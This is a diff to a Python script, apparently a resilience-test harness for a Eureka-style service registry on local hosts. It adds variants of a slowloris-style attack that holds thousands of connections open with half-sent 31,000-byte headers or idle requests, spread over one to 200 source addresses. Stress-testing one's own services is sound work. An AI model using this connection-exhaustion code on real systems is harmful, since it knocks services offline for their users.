@@ -210,14 +210,14 @@ def name(number):
     return f"APP-{number % 1000}", f"host-{number}.local:app:8080"
 
 
-def keep(attack, connections, sent):
-    """Connections that are kept after something was sent: half a request, or a whole one."""
+def keep(attack, connections, sent, addresses=4):
+    """Connections from some addresses that are kept after something was sent: half a request, or a whole one."""
     kept = []
     for number in range(connections):
         if not attack.goes_on():
             break
         try:
-            connection = attack.connect(2 + number % 200, patience=2)
+            connection = attack.connect(2 + number % addresses, patience=2)
             kept.append(connection)
             connection.sendall(sent)
             if sent.endswith(b"\r\n\r\n"):
@@ -229,8 +229,15 @@ def keep(attack, connections, sent):
         time.sleep(0.1)
 
 
+HALF_HEAD = b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: " + b"y" * 31_000
+
+
 def half_heads(attack):
-    keep(attack, 2500, b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: " + b"y" * 31_000)
+    keep(attack, 2500, HALF_HEAD)
+
+
+def half_heads_of_many(attack):
+    keep(attack, 2500, HALF_HEAD, addresses=200)
 
 
 def half_bodies(attack):
@@ -238,7 +245,11 @@ def half_bodies(attack):
 
 
 def idle(attack):
-    keep(attack, 6000, whole("GET", "/eureka/apps/NONE"))
+    keep(attack, 6000, whole("GET", "/eureka/apps/NONE"), addresses=200)
+
+
+def idle_of_one(attack):
+    keep(attack, 1100, whole("GET", "/eureka/apps/NONE"), addresses=1)
 
 
 if __name__ == "__main__":
